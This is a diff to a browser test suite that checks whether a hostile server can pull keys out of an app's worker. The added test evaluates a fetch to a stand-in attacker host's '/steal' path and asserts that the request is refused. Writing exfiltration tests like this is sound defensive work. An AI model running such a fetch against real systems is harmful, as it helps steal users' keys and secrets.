@@ -11,6 +11,7 @@ import {
   importFile,
   reads,
 } from '../acts.ts';
+import type { ChromiumSession } from '../driver/chromium.ts';
 import type { Tab } from '../driver/person.ts';
 import { makeProfile, removeProfile } from '../driver/process.ts';
 import { addresses, connectClarityq, eventually, openStage, press, type Stage } from '../stage.ts';
@@ -191,6 +192,12 @@ describe('a hostile server gets a sentence, and no key leaves a trace', () => {
       `https://${EVIL}/steal`,
     );
     expect(asked).toBe('refused');
+    if (stage.browser.name === 'chromium') {
+      // Keys are in the worker alone; Firefox lets nobody into it from outside.
+      const worker = stage.browser as ChromiumSession;
+      const stolen = `fetch('https://${EVIL}/steal').then(() => 'reached', () => 'refused')`;
+      expect(await worker.evaluateInWorker(stolen)).toBe('refused');
+    }
     expect(stage.browser.reached).not.toContain(EVIL);
   });
 
